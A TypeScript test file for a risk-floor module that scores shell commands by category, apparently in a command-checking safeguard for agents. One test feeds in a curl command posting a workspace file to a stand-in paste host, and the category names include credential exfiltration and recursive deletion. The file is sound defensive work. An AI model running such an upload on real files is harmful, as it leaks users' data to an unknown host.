import { describe, expect, it } from 'vitest';
import shipped from '../../../rules/check-risk-floors.json';
import { CATEGORIES } from '../../core';
import { analyzeShellSync } from '../../shell';
import { shellEnv } from '../../shell/testdata/shell-env';
import { bundledRiskFloors, parseRiskFloors, riskFloor } from './risk-floor';

const floors = bundledRiskFloors();
const with_ = (change: (d: typeof shipped) => unknown) => parseRiskFloors(change(structuredClone(shipped)));

describe('the shipped risk floors', () => {
  it('load, with a floor for every category', () => {
    expect(Object.keys(floors.categories).sort()).toEqual([...CATEGORIES].sort());
  });

  it('put a workspace file sent to an unstated host at high at least', () => {
    const shell = analyzeShellSync(
      'curl -X POST --data-binary @notes.txt https://paste.example.net/up',
      shellEnv(),
    );
    expect(riskFloor(floors, ['outbound_network_to_unstated_host'], shell)).toEqual({
      risk: 'high',
      why: 'it sends a workspace file to a host nobody stated',
    });
  });

  it('keep a plain fetch from an unstated host at its category floor', () => {
    const shell = analyzeShellSync('curl https://paste.example.net/raw', shellEnv());
    expect(riskFloor(floors, ['outbound_network_to_unstated_host'], shell)?.risk).toBe('medium');
  });

  it('take the highest floor over several categories', () => {
    expect(
      riskFloor(floors, ['secret_material_read', 'recursive_delete_outside_workspace'], undefined),
    ).toEqual({
      risk: 'high',
      why: 'category `recursive_delete_outside_workspace`',
    });
  });

  it('have no floor without a category', () => {
    expect(riskFloor(floors, [], undefined)).toBeUndefined();
  });
});

describe('parseRiskFloors rejects a file whole', () => {
  it.each([
    [
      'a situation under its category (not monotone)',
      (d: typeof shipped) => ({ ...d, situations: [{ ...d.situations[0], risk: 'low' }] }),
      'under its category',
    ],
    [
      'a presumed-denied category without a floor',
      (d: typeof shipped) => {
        const { force_push: _, ...rest } = d.categories;
        return { ...d, categories: rest };
      },
      'force_push',
    ],
    [
      'a never-grant category below critical',
      (d: typeof shipped) => ({ ...d, categories: { ...d.categories, credential_exfiltration: 'high' } }),
      'critical',
    ],
    [
      'a risk off the scale',
      (d: typeof shipped) => ({ ...d, categories: { ...d.categories, force_push: 'huge' } }),
      'force_push',
    ],
    [
      'an unknown category',
      (d: typeof shipped) => ({ ...d, categories: { ...d.categories, made_up: 'low' } }),
      'categories',
    ],
    [
      'a situation the code does not know',
      (d: typeof shipped) => ({ ...d, situations: [{ ...d.situations[0], id: 'made-up' }] }),
      'situations',
    ],
  ])('%s', (_name, change, problem) => {
    const result = with_(change);
    expect(result.ok).toBe(false);
    if (!result.ok) expect(result.problem).toContain(problem);
  });
});
